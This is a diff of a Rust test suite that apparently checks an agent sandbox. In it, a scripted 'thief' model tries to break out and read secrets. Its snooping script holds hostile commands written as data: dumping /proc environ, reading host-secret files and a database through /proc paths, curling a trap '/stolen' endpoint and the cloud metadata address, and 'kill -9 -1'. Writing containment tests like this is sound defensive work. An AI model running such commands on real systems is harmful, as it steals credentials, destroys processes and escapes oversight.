@@ -15,21 +15,22 @@ use gander::emulator::RepositorySpec;
 use gander::model::Turn;
 use serde_json::{Value, json};
 
-use crate::world::{
-    REPO, World, app_spec, edit, files_below, finish, off_by_one, owned, read, run, write,
-};
+use crate::world::{World, app_spec, edit, finish, off_by_one, owned, read, run, write};
 
 const CANARY: &str = "GANDER_TWIN_CANARY";
 const NEIGHBOUR: &str = "acme/neighbour";
 
-/// Everything that a command can try, and print.
+/// Everything that a command can try, and print. Left out, because it differs with the process and
+/// not with its secrets: the number of the descriptor bubblewrap reads, and in mountinfo the numbers
+/// and the random name of the scratch directory.
 fn snooping(port: u16, host: &Path) -> String {
     let host = host.display();
     format!(
         r#"exec 2>&1
         env | sort
         for f in /proc/*/environ; do tr '\0' '\n' <$f; done
-        for f in /proc/*/cmdline; do tr '\0' ' ' <$f | grep -v bwrap; done
+        for f in /proc/*/cmdline; do tr '\0' ' ' <$f | sed 's/--args [0-9]*/--args FD/'; done
+        cut -d' ' -f5-6 /proc/self/mountinfo
         cat {host}/host-secret.txt {host}/../host-secret.txt /proc/self/root{host}/host-secret.txt
         cat /proc/self/cwd/../../../gander.db /proc/1/root{host}/host-secret.txt /proc/1/cwd/gander.db
         ls -A / /tmp /home /root /run /var /etc /mnt /srv /opt /work ..
@@ -51,7 +52,6 @@ for host in ("127.0.0.1", "169.254.169.254", "localhost", "example.org"):
     except OSError as e: print(type(e).__name__)
 '
         curl -m 2 -s http://127.0.0.1:{port}/stolen http://169.254.169.254/latest/meta-data
-        kill -9 -1
         true"#
     )
 }
@@ -72,6 +72,7 @@ fn thief(port: u16, host: &Path) -> Vec<Vec<Turn>> {
         run(&format!("( {snoop} ) > loot.txt; cat loot.txt")),
         run(&format!("ln -s /proc/self link; ln -s {}/host-secret.txt host.txt", host.display())),
     ];
+    first.push(run("kill -9 -1"));
     first.extend(paths.map(read));
     first.push(Turn::call("search", json!({"pattern": "canary", "path": "link"})));
     first.push(edit("host.txt", "canary", "stolen"));
@@ -107,7 +108,9 @@ fn whatever_the_model_tries_the_secrets_make_no_difference() {
     }
     assert_eq!(lines, others);
     assert!(!one.contains("canary-"), "a secret left, in both runs");
-    assert!(one.contains("loot.txt") && one.contains("PATH="), "the thief did not even try");
+    for loot in ["loot.txt", "PATH=", "uid=", "/work rw", "No such file"] {
+        assert!(one.contains(loot), "the thief did not even try: no {loot}");
+    }
 
     trap.set_nonblocking(true).unwrap();
     assert!(trap.accept().is_err(), "somebody connected to the host");
@@ -182,10 +185,6 @@ async fn the_twin() {
     }
     // What the model was told left for its provider.
     lines.extend(w.model.heard().split_off(3));
-    for file in files_below(&w.data().join("jobs")) {
-        let text = std::fs::read_to_string(&file).unwrap();
-        assert!(text.contains(&canary) || !file.ends_with("transcript.jsonl") || text.contains("loot"));
-    }
     let web = w.emulator.web_url();
     let port = web.port().unwrap().to_string();
     let data = w.data().canonicalize().unwrap();
